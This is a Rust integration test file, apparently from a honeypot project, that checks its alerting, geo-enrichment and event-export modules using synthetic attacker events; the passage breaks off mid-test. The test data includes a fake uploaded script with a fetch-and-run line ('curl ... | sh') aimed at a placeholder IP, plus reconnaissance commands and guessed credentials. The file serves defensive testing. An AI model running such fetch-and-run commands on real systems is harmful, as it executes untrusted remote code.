//! The example modules (modules/examples) end to end: alerts, geo enrichment and export,
//! each a real Python process (stdlib SDK) against a real core, with events injected by
//! embedded agents; plus the examples' Python unit tests. Needs python3, `npm ci` in
//! modules/examples/geo and the virtualenv modules/examples/.venv (hpfeeds broker,
//! maxminddb); .ci/run installs them, and a missing one fails with how to install it.

mod common;
use common::*;
use honeybee_agent::captures::NewCapture;
use honeybee_agent::runtime::{Agent, AgentOptions};
use honeybee_agent::sink::NewEvent;
use honeybee_proto::SessionId;
use honeybee_proto::capture::CaptureKind;
use honeybee_proto::event::{AuthAttempt, AuthMethod, EventKind};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

const REPO: &str = env!("CARGO_MANIFEST_DIR");
/// 2023-11-14T22:13:20.123Z: fixed event times make every payload exactly predictable.
const T0: i64 = 1_700_000_000_123;

fn examples() -> PathBuf {
    Path::new(REPO).join("modules/examples")
}

fn need(path: &Path, install: &str) {
    assert!(
        path.exists(),
        "{} is missing: {install} (.ci/run does this)",
        path.display()
    );
}

fn geo_data_installed() {
    need(
        &examples().join("geo/node_modules/@ip-location-db/geo-whois-asn-country-mmdb"),
        "run `npm ci` in modules/examples/geo",
    );
    need(
        &examples().join("geo/node_modules/@ip-location-db/asn/asn-ipv4-num.csv"),
        "run `npm ci` in modules/examples/geo",
    );
}

/// The test virtualenv's python (hpfeeds broker, maxminddb).
fn venv_bin(name: &str) -> PathBuf {
    let p = examples().join(".venv/bin").join(name);
    need(
        &p,
        "run `python3 -m venv modules/examples/.venv && modules/examples/.venv/bin/pip install -r modules/examples/requirements-test.txt`",
    );
    p
}

/// A child process killed on drop, with its stdout lines on a channel.
struct Py {
    child: Child,
    lines: mpsc::Receiver<String>,
}

impl Py {
    fn spawn(cmd: &mut Command) -> Py {
        let mut child = cmd
            .stdout(Stdio::piped())
            .stdin(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start {cmd:?}: {e}"));
        let out = child.stdout.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(out).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        Py { child, lines }
    }

    /// The next stdout line, within `limit`.
    fn line(&self, what: &str, limit: Duration) -> String {
        self.lines
            .recv_timeout(limit)
            .unwrap_or_else(|e| panic!("no {what} from the process within {limit:?}: {e}"))
    }
}

impl Drop for Py {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn module(script: &str, dep: &Deployment, cred: &str) -> Command {
    let mut c = Command::new("python3");
    c.arg(examples().join(script))
        .env("HONEYBEE_SHIM_ADDR", dep.shim_addr().to_string())
        .env("HONEYBEE_MODULE_CREDENTIAL", cred);
    c
}

fn wait_subscribed(dep: &Deployment, name: &str) {
    let d = dep.d();
    wait_for(
        &format!("module {name} connected and subscribed"),
        Duration::from_secs(60),
        || {
            let list: Vec<Value> =
                serde_json::from_str(&ok(&["module", "list", "--json", "--data-dir", &d])).ok()?;
            list.into_iter()
                .find(|m| m["name"] == name && m["state"] == "connected" && m["subscriptions"] == 1)
        },
    );
}

/// An enrolled agent embedded in the test, services off, for synthetic events.
async fn embedded_agent(dep: &Deployment, name: &str) -> Agent {
    let token = tokio::task::block_in_place(|| dep.token(name, &[]));
    let dir = dep.agent_dir(name);
    honeybee_agent::enroll::enroll(&token, &dir).await.unwrap();
    let mut opts = AgentOptions::full(dir);
    opts.services = false;
    Agent::start(opts).await.unwrap()
}

fn ev(
    t: i64,
    service: &str,
    session: Option<SessionId>,
    src: &str,
    dst: Option<&str>,
    kind: EventKind,
) -> NewEvent {
    NewEvent {
        time_ms: t,
        service: service.into(),
        session,
        src: Some(src.parse().unwrap()),
        dst: dst.map(|d| d.parse().unwrap()),
        kind,
    }
}

fn auth(user: &str, password: &str, success: bool) -> EventKind {
    EventKind::AuthAttempt(AuthAttempt {
        method: AuthMethod::Password,
        username: user.into(),
        password: Some(password.into()),
        key_fingerprint: None,
        key_algorithm: None,
        client_version: Some("SSH-2.0-Go".into()),
        success,
    })
}

fn python_unit_tests(dir: &str) {
    // coreutils `timeout` bounds the run even if a test hangs.
    let out = Command::new("timeout")
        .args(["120", "python3", "-m", "unittest", "discover", "-v", "-s"])
        .arg(examples().join(dir))
        .args(["-p", "test_*.py"])
        .output()
        .expect("python3 runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{dir} unit tests failed:\n{err}");
    assert!(err.contains("\nOK"), "{err}");
    assert!(!err.contains("skipped"), "nothing may be skipped:\n{err}");
}

#[test]
fn alerts_unit_tests() {
    python_unit_tests("alerts");
}

#[test]
fn geo_unit_tests_and_reader_agrees_with_maxminddb() {
    geo_data_installed();
    python_unit_tests("geo");
    let out = Command::new("timeout")
        .arg("120")
        .arg(venv_bin("python"))
        .arg(examples().join("geo/crosscheck_maxminddb.py"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn export_unit_tests() {
    python_unit_tests("export");
}

// -- alerts ------------------------------------------------------------------------------

/// One HTTP request as the webhook receiver saw it.
#[derive(Debug)]
struct Hook {
    path: String,
    content_type: String,
    body: Value,
}

fn webhook_receiver() -> (u16, mpsc::Receiver<Hook>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut s) = conn else { continue };
            s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            let mut buf = Vec::new();
            let mut chunk = [0u8; 4096];
            let head_end = loop {
                if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                    break i + 4;
                }
                match s.read(&mut chunk) {
                    Ok(0) | Err(_) => return,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            };
            let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
            let header = |name: &str| {
                head.lines()
                    .find_map(|l| {
                        let (k, v) = l.split_once(':')?;
                        k.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
                    })
                    .unwrap_or_default()
            };
            let len: usize = header("content-length").parse().unwrap_or(0);
            while buf.len() < head_end + len {
                match s.read(&mut chunk) {
                    Ok(0) | Err(_) => return,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            let mut request_line = head.lines().next().unwrap_or("").split(' ');
            assert_eq!(request_line.next(), Some("POST"));
            let hook = Hook {
                path: request_line.next().unwrap_or("").to_owned(),
                content_type: header("content-type"),
                body: serde_json::from_slice(&buf[head_end..head_end + len]).unwrap_or(Value::Null),
            };
            let _ = tx.send(hook);
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, rx)
}

fn syslog_udp_receiver() -> (u16, mpsc::Receiver<String>) {
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = s.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = vec![0u8; 65536];
        while let Ok((n, _)) = s.recv_from(&mut buf) {
            if tx
                .send(String::from_utf8_lossy(&buf[..n]).into_owned())
                .is_err()
            {
                break;
            }
        }
    });
    (port, rx)
}

/// RFC 6587 octet counting: "LEN SP MSG" frames on one connection.
fn syslog_tcp_receiver() -> (u16, mpsc::Receiver<String>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(s) = conn else { continue };
            let tx = tx.clone();
            std::thread::spawn(move || {
                let mut r = BufReader::new(s);
                loop {
                    let mut len = Vec::new();
                    if r.read_until(b' ', &mut len).unwrap_or(0) == 0 {
                        return;
                    }
                    let digits = String::from_utf8_lossy(&len[..len.len() - 1]).into_owned();
                    let n: usize = digits
                        .parse()
                        .unwrap_or_else(|_| panic!("bad octet count {digits:?}"));
                    let mut msg = vec![0u8; n];
                    if r.read_exact(&mut msg).is_err() {
                        return;
                    }
                    let _ = tx.send(String::from_utf8(msg).expect("utf-8 syslog message"));
                }
            });
        }
    });
    (port, rx)
}

fn file_lines(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

fn wait_lines(path: &Path, n: usize) -> Vec<Value> {
    wait_for(
        &format!("{n} alert(s) in {}", path.display()),
        Duration::from_secs(60),
        || {
            let lines = file_lines(path);
            (lines.len() >= n).then_some(lines)
        },
    )
}

fn event_seq(dep: &Deployment, node: &str, pick: impl Fn(&Value) -> bool) -> u64 {
    let mut seqs: Vec<u64> = dep
        .events(&["--node", node])
        .iter()
        .filter(|e| pick(e))
        .map(|e| e["event"]["sequence"].as_u64().unwrap())
        .collect();
    seqs.sort();
    *seqs.first().expect("the event is stored")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn alerts_module_sends_rules_to_webhooks_syslog_file_and_honeybee() {
    let mut dep = Deployment::init(|t| t);
    tokio::task::block_in_place(|| dep.start_core());
    let (hook_port, hooks) = webhook_receiver();
    let (udp_port, udp) = syslog_udp_receiver();
    let (tcp_port, tcp) = syslog_tcp_receiver();
    let file = dep.dir.path().join("alerts.jsonl");
    let cfg = json!({
        "hostname": "honeybee-test",
        "captures_poll_seconds": 0.5,
        "rules": [
            {"name": "watched-root", "type": "auth_username", "usernames": ["root"], "severity": "medium", "cooldown_seconds": 600},
            {"name": "login-success", "type": "login_success", "severity": "critical"},
            {"name": "scan", "type": "scan_detected"},
            {"name": "new-capture", "type": "new_capture", "severity": "high"},
            {"name": "two-nodes", "type": "source_on_nodes", "min_nodes": 2, "severity": "high"}
        ],
        "outputs": [
            {"name": "generic", "type": "webhook", "url": format!("http://127.0.0.1:{hook_port}/generic")},
            {"name": "slack", "type": "webhook", "url": format!("http://127.0.0.1:{hook_port}/slack"), "format": "slack"},
            {"name": "udp", "type": "syslog", "host": "127.0.0.1", "port": udp_port, "protocol": "udp"},
            {"name": "tcp", "type": "syslog", "host": "127.0.0.1", "port": tcp_port, "protocol": "tcp", "facility": "authpriv"},
            {"name": "file", "type": "file", "path": file}
        ]
    });
    let cfg_path = dep.dir.path().join("alerts.json");
    std::fs::write(&cfg_path, serde_json::to_vec_pretty(&cfg).unwrap()).unwrap();
    let cred = tokio::task::block_in_place(|| {
        dep.module_credential("alerts", "events:read,alerts:write,captures:read")
    });
    let py = Py::spawn(
        module("alerts/alerts.py", &dep, &cred)
            .arg("--config")
            .arg(&cfg_path),
    );
    let pid = py.child.id();
    assert_eq!(
        py.line("ready line", Duration::from_secs(30)),
        "alerts: ready"
    );

    let alpha = embedded_agent(&dep, "alpha").await;
    let beta = embedded_agent(&dep, "beta").await;
    let s1 = SessionId([0x11; 8]);
    let s2 = SessionId([0x22; 8]);
    let dst = Some("192.0.2.10:22");
    // 1. A login attempt as a watched user, then the same again: the cooldown holds it back.
    for _ in 0..2 {
        alpha
            .sink()
            .emit(ev(
                T0,
                "ssh",
                Some(s1),
                "203.0.113.7:40001",
                dst,
                auth("root", "hunter2", false),
            ))
            .await;
    }
    // 2. A login the honeypot accepted (today's SSH service never does: synthetic).
    alpha
        .sink()
        .emit(ev(
            T0 + 877,
            "ssh",
            Some(s2),
            "198.51.100.9:50000",
            dst,
            auth("admin", "admin", true),
        ))
        .await;
    tokio::task::block_in_place(|| wait_lines(&file, 2));
    // 3. The first source shows up on a second node.
    beta.sink()
        .emit(ev(
            T0 + 1877,
            "banner",
            None,
            "203.0.113.7:40002",
            Some("192.0.2.11:25"),
            EventKind::Connect,
        ))
        .await;
    tokio::task::block_in_place(|| wait_lines(&file, 3));
    // 4. A capture the store has not seen.
    let content = b"#!/bin/sh\ncurl http://203.0.113.50/x | sh\n".to_vec();
    let header = alpha
        .capture(NewCapture {
            kind: CaptureKind::Upload,
            service: "ssh".into(),
            session: Some(s1),
            time_ms: T0 + 2877,
            meta: vec![("name".into(), "x.sh".into())],
            content: content.clone(),
        })
        .unwrap();
    let sha = hex::encode(header.sha256);
    let lines = tokio::task::block_in_place(|| wait_lines(&file, 4));

    // What HoneyBee stored: the alerts (with their ids) and the events they point at.
    let (stored_alerts, root_seq, admin_seq, beta_seq) = tokio::task::block_in_place(|| {
        let alerts: Vec<Value> =
            serde_json::from_str(&ok(&["alerts", "--json", "--data-dir", &dep.d()])).unwrap();
        (
            alerts,
            event_seq(&dep, "alpha", |e| e["user"]["name"] == "root"),
            event_seq(&dep, "alpha", |e| e["user"]["name"] == "admin"),
            event_seq(&dep, "beta", |e| e["event"]["action"] == "connect"),
        )
    });
    assert_eq!(stored_alerts.len(), 4, "{stored_alerts:#?}");
    let alert_id = |title: &str| -> i64 {
        let a = stored_alerts
            .iter()
            .find(|a| a["title"] == title)
            .unwrap_or_else(|| panic!("no HoneyBee alert {title:?} in {stored_alerts:#?}"));
        assert_eq!(a["module"], "alerts");
        a["id"].as_i64().unwrap()
    };

    let t_root = "Login attempt as watched user \"root\" on alpha (ssh) from 203.0.113.7";
    let t_admin = "Successful login as \"admin\" on alpha (ssh) from 198.51.100.9";
    let t_nodes = "Source 203.0.113.7 seen on 2 nodes: alpha, beta";
    let t_cap = format!(
        "New capture {} (upload, {} bytes) on alpha",
        &sha[..16],
        content.len()
    );
    let b_root = "user=root service=ssh method=password success=false session=1111111111111111";
    let b_admin = "user=admin service=ssh method=password success=true session=2222222222222222";
    let b_nodes = "nodes=alpha,beta last=beta";
    let b_cap = format!(
        "sha256={sha} size={} kind=upload service=ssh session=1111111111111111",
        content.len()
    );
    let ids = [
        alert_id(t_root),
        alert_id(t_admin),
        alert_id(t_nodes),
        alert_id(&t_cap),
    ];
    let expected = [
        json!({"rule": "watched-root", "type": "auth_username", "severity": "medium",
               "time": "2023-11-14T22:13:20.123Z", "title": t_root, "body": b_root, "node": "alpha",
               "event": {"node": "alpha", "seq": root_seq}, "source_ip": "203.0.113.7",
               "details": {"user": "root", "service": "ssh", "method": "password", "success": false,
                           "session": "1111111111111111"},
               "alert_id": ids[0]}),
        json!({"rule": "login-success", "type": "login_success", "severity": "critical",
               "time": "2023-11-14T22:13:21.000Z", "title": t_admin, "body": b_admin, "node": "alpha",
               "event": {"node": "alpha", "seq": admin_seq}, "source_ip": "198.51.100.9",
               "details": {"user": "admin", "service": "ssh", "method": "password", "success": true,
                           "session": "2222222222222222"},
               "alert_id": ids[1]}),
        json!({"rule": "two-nodes", "type": "source_on_nodes", "severity": "high",
               "time": "2023-11-14T22:13:22.000Z", "title": t_nodes, "body": b_nodes, "node": "beta",
               "event": {"node": "beta", "seq": beta_seq}, "source_ip": "203.0.113.7",
               "details": {"nodes": ["alpha", "beta"]}, "alert_id": ids[2]}),
        json!({"rule": "new-capture", "type": "new_capture", "severity": "high",
               "time": "2023-11-14T22:13:23.000Z", "title": t_cap, "body": b_cap, "node": "alpha",
               "event": null, "source_ip": null,
               "details": {"sha256": sha, "size": content.len(), "kind": "upload", "service": "ssh",
                           "session": "1111111111111111"},
               "alert_id": ids[3]}),
    ];

    // The JSON-lines file: exactly these four (the repeated root attempt was held back).
    assert_eq!(lines.len(), 4);
    for (got, want) in lines.iter().zip(&expected) {
        assert_eq!(got, want);
    }

    // HoneyBee's own alerts point at the same events.
    for (want, (sev, seq)) in expected.iter().zip([
        ("medium", Some(root_seq)),
        ("critical", Some(admin_seq)),
        ("high", Some(beta_seq)),
        ("high", None),
    ]) {
        let a = stored_alerts
            .iter()
            .find(|a| a["id"] == want["alert_id"])
            .unwrap();
        assert_eq!(a["severity"], sev);
        assert_eq!(a["body"], want["body"]);
        assert_eq!(a["seq"].as_u64(), seq, "{a}");
    }

    // Webhooks: the generic JSON document and the Slack-compatible text, in order.
    let slack_titles = [
        ("MEDIUM", t_root, b_root.to_owned()),
        ("CRITICAL", t_admin, b_admin.to_owned()),
        ("HIGH", t_nodes, b_nodes.to_owned()),
        ("HIGH", t_cap.as_str(), b_cap.clone()),
    ];
    for (want, (sev, title, body)) in expected.iter().zip(&slack_titles) {
        let generic = hooks.recv_timeout(Duration::from_secs(10)).unwrap();
        assert_eq!(generic.path, "/generic");
        assert_eq!(generic.content_type, "application/json");
        assert_eq!(&generic.body, want);
        let slack = hooks.recv_timeout(Duration::from_secs(10)).unwrap();
        assert_eq!(slack.path, "/slack");
        assert_eq!(slack.content_type, "application/json");
        assert_eq!(
            slack.body,
            json!({"text": format!("[{sev}] {title}\n{body}")})
        );
    }

    // Syslog, RFC 5424: <PRI>1 TIMESTAMP HOSTNAME APP-NAME PROCID MSGID [SD] MSG. local0 (16)
    // over UDP, authpriv (10) over TCP; severities critical 2, high 3, medium 4.
    let sd = |rule: &str, sev: &str, node: &str, rest: &str, id: i64| {
        format!(
            "[honeybee@32473 rule=\"{rule}\" severity=\"{sev}\" node=\"{node}\"{rest} alert=\"{id}\"]"
        )
    };
    let lines_for = |facility: u32| -> Vec<String> {
        vec![
            format!(
                "<{}>1 2023-11-14T22:13:20.123Z honeybee-test honeybee-alerts {pid} watched-root {} {t_root} | {b_root}",
                facility * 8 + 4,
                sd(
                    "watched-root",
                    "medium",
                    "alpha",
                    &format!(" seq=\"{root_seq}\" src=\"203.0.113.7\""),
                    ids[0]
                )
            ),
            format!(
                "<{}>1 2023-11-14T22:13:21.000Z honeybee-test honeybee-alerts {pid} login-success {} {t_admin} | {b_admin}",
                facility * 8 + 2,
                sd(
                    "login-success",
                    "critical",
                    "alpha",
                    &format!(" seq=\"{admin_seq}\" src=\"198.51.100.9\""),
                    ids[1]
                )
            ),
            format!(
                "<{}>1 2023-11-14T22:13:22.000Z honeybee-test honeybee-alerts {pid} two-nodes {} {t_nodes} | {b_nodes}",
                facility * 8 + 3,
                sd(
                    "two-nodes",
                    "high",
                    "beta",
                    &format!(" seq=\"{beta_seq}\" src=\"203.0.113.7\""),
                    ids[2]
                )
            ),
            format!(
                "<{}>1 2023-11-14T22:13:23.000Z honeybee-test honeybee-alerts {pid} new-capture {} {t_cap} | {b_cap}",
                facility * 8 + 3,
                sd("new-capture", "high", "alpha", "", ids[3])
            ),
        ]
    };
    for (want, got) in lines_for(16).iter().zip((0..4).map(|_| {
        udp.recv_timeout(Duration::from_secs(10))
            .expect("a UDP syslog message")
    })) {
        assert_eq!(&got, want);
    }
    for (want, got) in lines_for(10).iter().zip((0..4).map(|_| {
        tcp.recv_timeout(Duration::from_secs(10))
            .expect("a TCP syslog frame")
    })) {
        assert_eq!(&got, want);
    }
    std::thread::sleep(Duration::from_millis(300));
    assert!(hooks.try_recv().is_err(), "no further webhook calls");
    assert!(
        udp.try_recv().is_err() && tcp.try_recv().is_err(),
        "no further syslog messages"
    );

    drop(py);
    alpha.stop().await.unwrap();
    beta.stop().await.unwrap();
}

// -- geo ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn geo_module_enriches_public_sources_in_the_cli() {
    geo_data_installed();
    let mut dep = Deployment::init(|t| t);
    tokio::task::block_in_place(|| dep.start_core());
    let script = examples().join("geo/geo.py");
    // As the README says to run it: a managed module, started and supervised by the core.
    tokio::task::block_in_place(|| {
        ok(&[
            "module",
            "load",
            "geo",
            "--data-dir",
            &dep.d(),
            "--permissions",
            "events:read,enrich:write",
            "--",
            "python3",
            script.to_str().unwrap(),
        ]);
        wait_subscribed(&dep, "geo");
    });
    let edge = embedded_agent(&dep, "edge").await;
    let dst = Some("192.0.2.10:22");
    // Loopback first: it has no data, and events are delivered in order, so once the
    // later ones are enriched this one has been looked at and left alone.
    for (i, src) in [
        "127.0.0.1:7777",
        "8.8.8.8:4444",
        "1.1.1.1:5555",
        "[2001:4860:4860::8888]:6666",
    ]
    .iter()
    .enumerate()
    {
        edge.sink()
            .emit(ev(T0 + i as i64, "ssh", None, src, dst, EventKind::Connect))
            .await;
    }
    edge.sink()
        .emit(ev(
            T0 + 10,
            "ssh",
            None,
            "8.8.8.8:4444",
            dst,
            auth("root", "toor", false),
        ))
        .await;

    let events = tokio::task::block_in_place(|| {
        wait_for("four enriched events", Duration::from_secs(60), || {
            let evs = dep.events(&["--node", "edge"]);
            (evs.len() == 5
                && evs
                    .iter()
                    .filter(|e| e["source"]["geo"].is_object())
                    .count()
                    == 4)
                .then_some(evs)
        })
    });
    let by_src = |ip: &str, action: &str| -> &Value {
        events
            .iter()
            .find(|e| e["source"]["ip"] == ip && e["event"]["action"] == action)
            .unwrap_or_else(|| panic!("no {action} from {ip}"))
    };
    for (ip, action) in [
        ("8.8.8.8", "connect"),
        ("8.8.8.8", "auth_attempt"),
        ("2001:4860:4860::8888", "connect"),
    ] {
        let e = by_src(ip, action);
        assert_eq!(e["source"]["geo"], json!({"country_iso_code": "US"}), "{e}");
        assert_eq!(
            e["source"]["as"],
            json!({"number": 15169, "organization": {"name": "Google LLC"}}),
            "{e}"
        );
    }
    let one = by_src("1.1.1.1", "connect");
    assert_eq!(
        one["source"]["as"],
        json!({"number": 13335, "organization": {"name": "Cloudflare, Inc."}})
    );
    let cc = one["source"]["geo"]["country_iso_code"].as_str().unwrap();
    assert!(
        cc.len() == 2 && cc.chars().all(|c| c.is_ascii_uppercase()),
        "{cc}"
    );
    let lo = by_src("127.0.0.1", "connect");
    assert!(
        lo["source"].get("geo").is_none() && lo["source"].get("as").is_none(),
        "{lo}"
    );

    // The text view shows the facts beside each event.
    let text =
        tokio::task::block_in_place(|| ok(&["events", "--node", "edge", "--data-dir", &dep.d()]));
    let line = text
        .lines()
        .find(|l| l.contains("8.8.8.8:4444") && l.contains("auth_attempt"))
        .unwrap_or_else(|| panic!("no auth_attempt line in\n{text}"));
    for fact in ["country_iso_code=US", "number=15169", "name=Google LLC"] {
        assert!(line.contains(fact), "{fact} missing from {line:?}");
    }
    let line = text.lines().find(|l| l.contains("127.0.0.1:7777")).unwrap();
    assert!(!line.contains("country_iso_code"), "{line}");

    tokio::task::block_in_place(|| ok(&["module", "unload", "geo", "--data-dir", &dep.d()]));
    edge.stop().await.unwrap();
}

// -- export ------------------------------------------------------------------------------

fn free_tcp_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// The ECS document the export module must produce for a stored event.
fn ecs_of(stored: &Value, kind: &str, category: Option<&[&str]>, types: &[&str]) -> Value {
    let mut doc = stored.clone();
    let m = doc.as_object_mut().unwrap();
    m.retain(|_, v| !v.is_null());
    m.insert("ecs".into(), json!({"version": "8.11.0"}));
    let ev = m["event"].as_object_mut().unwrap();
    ev.insert("kind".into(), kind.into());
    if let Some(c) = category {
        ev.insert("category".into(), json!(c));
    }
    ev.insert("type".into(), json!(types));
    ev.insert("module".into(), "honeybee".into());
    ev.insert("dataset".into(), "honeybee.events".into());
    if let Some(s) = stored["honeybee"]["success"].as_bool() {
        ev.insert(
            "outcome".into(),
            if s { "success" } else { "failure" }.into(),
        );
    }
    let obs = m["observer"].as_object_mut().unwrap();
    obs.insert("type".into(), "honeypot".into());
    obs.insert("vendor".into(), "HoneyBee".into());
    obs.insert("product".into(), "HoneyBee".into());
    doc
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_module_writes_ecs_lines_and_publishes_to_an_hpfeeds_broker() {
    let broker_bin = venv_bin("hpfeeds-broker");
    let venv_python = venv_bin("python");
    let mut dep = Deployment::init(|t| t);
    tokio::task::block_in_place(|| dep.start_core());

    // A real hpfeeds broker (PyPI `hpfeeds`), users from the environment: a publisher for
    // the module and a subscriber for the test.
    let port = free_tcp_port();
    let broker_log = std::fs::File::create(dep.dir.path().join("broker.log")).unwrap();
    let _broker = Py::spawn(
        Command::new(&broker_bin)
            .args(["--bind", &format!("127.0.0.1:{port}"), "--auth", "env"])
            .env("HPFEEDS_HONEYBEE_SECRET", "pub-secret")
            .env("HPFEEDS_HONEYBEE_PUBCHANS", "honeybee.events")
            .env("HPFEEDS_CONSUMER_SECRET", "sub-secret")
            .env("HPFEEDS_CONSUMER_SUBCHANS", "honeybee.events")
            .stderr(broker_log),
    );
    wait_for(
        "the hpfeeds broker to listen",
        Duration::from_secs(30),
        || TcpStream::connect(("127.0.0.1", port)).ok(),
    );
    let sub = Py::spawn(
        Command::new(&venv_python)
            .arg(Path::new(REPO).join("tests/modules/hpfeeds_subscriber.py"))
            .args([
                "127.0.0.1",
                &port.to_string(),
                "consumer",
                "honeybee.events",
            ])
            .env("HPFEEDS_SECRET", "sub-secret"),
    );
    let hello: Value =
        serde_json::from_str(&sub.line("subscriber hello", Duration::from_secs(30))).unwrap();
    assert!(hello["connected"].is_string(), "{hello}");

    let out = dep.dir.path().join("events.json");
    let secret_file = dep.dir.path().join("hpfeeds.secret");
    std::fs::write(&secret_file, "pub-secret\n").unwrap();
    let cred = tokio::task::block_in_place(|| dep.module_credential("export", "events:read"));
    let export = Py::spawn(
        module("export/export.py", &dep, &cred)
            .args(["--stdout", "--file"])
            .arg(&out)
            .args(["--max-bytes", "1500", "--backups", "20"])
            .args(["--hpfeeds", &format!("127.0.0.1:{port}")])
            .args([
                "--hpfeeds-ident",
                "honeybee",
                "--hpfeeds-channel",
                "honeybee.events",
                "--hpfeeds-secret-file",
            ])
            .arg(&secret_file),
    );
    tokio::task::block_in_place(|| wait_subscribed(&dep, "export"));

    let node = embedded_agent(&dep, "exp").await;
    // hpfeeds has no subscribe acknowledgement: send canaries until one comes through.
    let mut canaries = 0;
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        node.sink()
            .emit(ev(
                T0,
                "ssh",
                None,
                "192.0.2.1:1",
                None,
                EventKind::Command {
                    line: format!("canary {canaries}"),
                },
            ))
            .await;
        canaries += 1;
        if let Ok(line) = sub.lines.recv_timeout(Duration::from_millis(500)) {
            let m: Value = serde_json::from_str(&line).unwrap();
            assert!(m["error"].is_null(), "broker error: {m}");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no canary reached the subscriber"
        );
    }

    let s = SessionId([0x33; 8]);
    let dst = Some("192.0.2.10:22");
    let sent = [
        ev(
            T0 + 1,
            "ssh",
            Some(s),
            "8.8.8.8:4444",
            dst,
            EventKind::Connect,
        ),
        ev(
            T0 + 2,
            "ssh",
            Some(s),
            "8.8.8.8:4444",
            dst,
            auth("root", "123456", false),
        ),
        ev(
            T0 + 3,
            "ssh",
            Some(s),
            "8.8.8.8:4444",
            dst,
            EventKind::Command {
                line: "uname -a; cat /proc/cpuinfo".into(),
            },
        ),
        ev(
            T0 + 4,
            "banner",
            None,
            "1.1.1.1:5555",
            Some("192.0.2.10:25"),
            EventKind::Data {
                bytes: b"EHLO x\r\n".to_vec(),
                truncated: false,
            },
        ),
        ev(
            T0 + 5,
            "ssh",
            Some(s),
            "8.8.8.8:4444",
            dst,
            EventKind::Disconnect {
                duration_ms: 1234,
                bytes_in: 10,
                bytes_out: 20,
            },
        ),
    ];
    for e in sent.iter().cloned() {
        node.sink().emit(e).await;
    }
    let is_test_event = |v: &Value| {
        v["observer"]["name"] == "exp"
            && !v["process"]["command_line"]
                .as_str()
                .is_some_and(|l| l.starts_with("canary"))
    };

    // hpfeeds: each event as its ECS JSON, from the module's ident, on the channel.
    let mut published = Vec::new();
    while published.len() < sent.len() {
        let line = sub.line("an hpfeeds message", Duration::from_secs(30));
        let m: Value = serde_json::from_str(&line).unwrap();
        assert!(m["error"].is_null(), "broker error: {m}");
        assert_eq!(m["ident"], "honeybee");
        assert_eq!(m["channel"], "honeybee.events");
        let doc: Value = serde_json::from_str(m["payload"].as_str().unwrap()).unwrap();
        if is_test_event(&doc) {
            published.push(doc);
        }
    }

    // The core's view of the same events, and what ECS adds to each.
    let mut stored = tokio::task::block_in_place(|| dep.events(&["--node", "exp"]));
    stored.retain(&is_test_event);
    stored.sort_by_key(|e| e["event"]["sequence"].as_u64());
    assert_eq!(stored.len(), sent.len());
    let expected: Vec<Value> = stored
        .iter()
        .map(|e| match e["event"]["action"].as_str().unwrap() {
            "connect" => ecs_of(e, "event", Some(&["network"]), &["connection", "start"]),
            "auth_attempt" => ecs_of(e, "event", Some(&["authentication"]), &["start"]),
            "command" => ecs_of(e, "event", Some(&["process"]), &["start"]),
            "data" => ecs_of(e, "event", Some(&["network"]), &["info"]),
            "disconnect" => ecs_of(e, "event", Some(&["network"]), &["connection", "end"]),
            other => panic!("unexpected {other}"),
        })
        .collect();
    // Delivery order is not part of the contract (a subscription and the exporter's
    // backlog may interleave); content is.
    published.sort_by_key(|e| e["event"]["sequence"].as_u64());
    // Live deliveries carry the store's row id (`event.id`, the cursor a reader resumes
    // from); `events --json` has no such column, so it is checked and then set aside.
    strip_event_ids(&mut published);
    assert_eq!(published, expected);
    // A few fields spelled out, so the expectation is not only derived.
    let auth_doc = &published[1];
    assert_eq!(auth_doc["ecs"]["version"], "8.11.0");
    assert_eq!(auth_doc["@timestamp"], "2023-11-14T22:13:20.125Z");
    assert_eq!(auth_doc["event"]["outcome"], "failure");
    assert_eq!(auth_doc["user"]["name"], "root");
    assert_eq!(auth_doc["source"], json!({"ip": "8.8.8.8", "port": 4444}));
    assert_eq!(auth_doc["observer"]["type"], "honeypot");
    assert_eq!(auth_doc["session"]["id"], "3333333333333333");
    assert!(published[3].get("session").is_none());

    // stdout: the same lines.
    let mut printed = Vec::new();
    while printed.len() < sent.len() {
        let doc: Value =
